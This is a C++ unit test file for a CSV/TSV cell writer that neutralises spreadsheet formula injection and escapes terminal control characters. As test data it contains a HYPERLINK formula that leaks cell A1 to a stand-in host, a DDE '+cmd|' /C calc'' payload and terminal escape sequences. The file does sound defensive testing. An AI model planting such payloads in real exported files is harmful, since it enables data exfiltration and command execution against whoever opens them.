// The one writer of CSV and TSV text cells (issue 45): a cell a spreadsheet would run as a formula opens
// as text, numbers stay numbers, quoting follows RFC 4180, the TSV reader gives a message back as it was
// written, and names for a terminal lose their control characters.
#include <doctest/doctest.h>

#include "core/figures/trace_table.hpp"
#include "core/session/session.hpp"
#include "core/state/widget_state.hpp"
#include "core/base/table_cells.hpp"
#include "core/words/text_corpus.hpp"

using namespace pl;

TEST_CASE("table cells: formulas get an apostrophe, numbers and plain text do not") {
    CHECK(csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")") ==
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    CHECK(csv_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
    CHECK(csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)");
    CHECK(csv_cell("=1+1.txt") == "'=1+1.txt");
    CHECK(csv_cell("-2+3") == "'-2+3");
    CHECK(csv_cell("\tx") == "'\tx");
    CHECK(csv_cell("\r=1") == "\"'\r=1\"");
    for (const char* number : {"-1", "+1", "0.5", "-0.25", "+3.", "-.5", "1e5", "-2e-3", "12"}) {
        CAPTURE(number);
        CHECK(csv_cell(number) == number);
        CHECK_FALSE(spreadsheet_formula(number));
    }
    for (const char* formula : {"-", "+", "-e5", "-1e", "- 1", "-1-1", "+0x10"}) {
        CAPTURE(formula);
        CHECK(spreadsheet_formula(formula));
    }
    CHECK(csv_cell("Ada Lovelace") == "Ada Lovelace");
    CHECK(csv_cell("Student, 3") == "\"Student, 3\"");
    CHECK(csv_cell("") == "");
    CHECK(csv_cell("a=b") == "a=b");  // only the first character makes a formula
}

TEST_CASE("table cells: a TSV message survives a save and a load, formula or not") {
    const std::vector<std::string> messages = {"=HYPERLINK(\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-1", "'quoted' start",
                                               "'=already", "plain words", "-2+3 tickets"};
    const std::vector<int> labels = {1, -1, 1, -1, 1, -1, 1, -1};
    const std::string tsv = write_tsv(messages, labels);
    CHECK(tsv.find("\n1\t=") == std::string::npos);  // no line opens with a formula cell
    CHECK(tsv.find("\n1\t'=HYPERLINK(\"x\")\n") != std::string::npos);
    CHECK(tsv.find("\n-1\t-1\n") != std::string::npos);  // a number is left as it is
    const TsvResult back = parse_tsv(tsv, 100);
    REQUIRE_MESSAGE(back.ok, back.summary());
    REQUIRE(back.corpus.messages.size() == messages.size());
    for (std::size_t i = 0; i < messages.size(); ++i) CHECK(back.corpus.messages[i] == messages[i]);
    CHECK(tsv.find("\n-1\t''=already\n") != std::string::npos);  // one more apostrophe than written
    CHECK(tsv_cell("a\tb\nc") == "a b c");
    CHECK(tsv_cell("\t=1") == " =1");  // a tab is a space first: the cell then starts with a space
}

TEST_CASE("table cells: the trace CSV of a Words run writes a formula message as text") {
    WidgetState state = Session::default_state();
    state.mode = DataMode::Words;
    state.words.messages = {"=HYPERLINK(\"http://evil.example\",\"x\")", "plain ham"};
    state.words.labels = {1, -1};
    const std::string csv = trace_csv(trace_table(state, 2));
    CHECK(csv.find(",=HYPERLINK") == std::string::npos);
    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",") != std::string::npos);
}

TEST_CASE("table cells: printable text shows control characters as \\xNN and keeps UTF-8") {
    CHECK(printable_text("\x1b]0;pwned\x07" "Ada") == "\\x1B]0;pwned\\x07Ada");
    CHECK(printable_text("a\nScore: 3 of 3") == "a\\x0AScore: 3 of 3");
    CHECK(printable_text("Zo\xC3\xAB \xE2\x88\x91") == "Zo\xC3\xAB \xE2\x88\x91");  // Zoë ∑
    CHECK(printable_text("\xC2\x9B" "2J") == "\\x9B2J");                          // CSI, the C1 form of ESC [
    CHECK(printable_text("\x7f") == "\\x7F");
}
